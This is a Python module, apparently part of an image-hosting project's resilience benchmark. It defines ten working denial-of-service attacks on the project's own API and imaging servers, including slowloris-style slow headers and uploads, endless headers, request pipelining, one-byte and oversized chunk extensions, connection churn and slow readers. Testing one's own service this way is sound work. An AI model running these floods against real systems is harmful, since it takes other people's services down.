"""The attacks. Each runs until it is cancelled, as fast as one process can or with as many connections as it says."""

import asyncio
import itertools
import socket
from collections.abc import Callable, Coroutine
from typing import NamedTuple

from imghost_dev.bench_attacks.sockets import Target, connect, is_open, send

GET = b"GET /livez HTTP/1.1\r\nHost: a.test\r\n"
_FORM = b'--B\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n'


class Attack(NamedTuple):
    """What runs, and which process it aims at."""

    run: Callable[[Target], Coroutine[None, None, None]]
    aims_at: str = "api"


def upload_head(target: Target, *more: bytes, key: str = "") -> bytes:
    """The head of an upload, with the attacker's key unless another is given."""
    lines = (
        b"POST /upload HTTP/1.1",
        b"Host: a.test",
        b"X-API-Key: " + (key or target.key).encode(),
        b"Content-Type: multipart/form-data; boundary=B",
        *more,
    )
    return b"\r\n".join(lines) + b"\r\n\r\n"


async def _hold(address: tuple[str, int], count: int, first: bytes, drip: bytes) -> None:
    """Keep `count` connections open, each with `first` sent; send `drip` on each once a second; replace lost ones."""
    held: list[socket.socket] = []
    while True:
        if len(held) < count and (client := await connect(address)) is not None:
            if not first or await send(client, first):
                held.append(client)
            continue
        await asyncio.sleep(1)
        for client in held:
            if drip:
                await send(client, drip)
        lost = [client for client in held if not is_open(client)]
        for client in lost:
            client.close()
            held.remove(client)


async def _repeat(address: tuple[str, int], count: int, first: bytes, block: bytes) -> None:
    """On `count` connections send `first`, then `block` without an end and without reading; reconnect when closed."""

    async def one() -> None:
        while True:
            client = await connect(address)
            if client is None:
                await asyncio.sleep(0.1)
                continue
            with client:
                going = await send(client, first)
                while going:
                    going = await send(client, block)

    await asyncio.gather(*(one() for _ in range(count)))


async def idle_connections(target: Target) -> None:
    await _hold(target.api, 2_000, b"", b"")


async def slow_heads(target: Target) -> None:
    await _hold(target.api, 2_000, GET + b"X-A: ", b"a")


async def endless_heads(target: Target) -> None:
    lines = b"".join(b"%x: a\r\n" % number for number in range(16_000))
    await _repeat(target.api, 20, GET, lines)


async def pipelined_requests(target: Target) -> None:
    await _repeat(target.api, 20, b"", (GET + b"\r\n") * 4_000)


async def tiny_chunks(target: Target) -> None:
    first = upload_head(target, b"Transfer-Encoding: chunked") + b"%x\r\n%s\r\n" % (len(_FORM), _FORM)
    await _repeat(target.api, 8, first, b"1\r\nx\r\n" * 10_000)


async def chunk_extensions(target: Target) -> None:
    first = upload_head(target, b"Transfer-Encoding: chunked") + b"%x\r\n%s\r\n" % (len(_FORM), _FORM)
    await _repeat(target.api, 8, first, b"1;a=" + b"b" * 60_000 + b"\r\nx\r\n")


async def connections_without_end(target: Target) -> None:
    """Connect and close, as fast as eight loops can."""

    async def one() -> None:
        for _ in itertools.count():
            client = await connect(target.api)
            if client is None:
                await asyncio.sleep(0.01)
            else:
                client.close()

    await asyncio.gather(*(one() for _ in range(8)))


async def slow_readers(target: Target) -> None:
    """1,000 connections ask three times for a large image and read nothing of it."""
    await _hold(target.imaging, 1_000, (b"GET %s HTTP/1.1\r\nHost: a.test\r\n\r\n" % target.image.encode()) * 3, b"")


async def slow_uploads(target: Target) -> None:
    """200 uploads of one account from one address, a byte a second."""
    await _hold(target.api, 200, upload_head(target, b"Content-Length: 1000000") + _FORM, b"x")


async def unauthorized_bodies(target: Target) -> None:
    """Uploads with an unknown key, whose bodies go on after the refusal."""
    first = upload_head(target, b"Content-Length: 26000000", key="ih_" + "a" * 40)
    await _repeat(target.api, 16, first, b"x" * 1_000_000)


ATTACKS = {
    "2,000 idle connections": Attack(idle_connections),
    "2,000 heads, a byte a second": Attack(slow_heads),
    "endless heads, 20 connections": Attack(endless_heads),
    "pipelined requests, 20 connections": Attack(pipelined_requests),
    "chunks of one byte, 8 uploads": Attack(tiny_chunks),
    "chunk extensions, 8 uploads": Attack(chunk_extensions),
    "connect and close": Attack(connections_without_end),
    "1,000 slow readers": Attack(slow_readers, "imaging"),
    "200 slow uploads of one account": Attack(slow_uploads),
    "bodies of unknown keys, 16 connections": Attack(unauthorized_bodies),
}
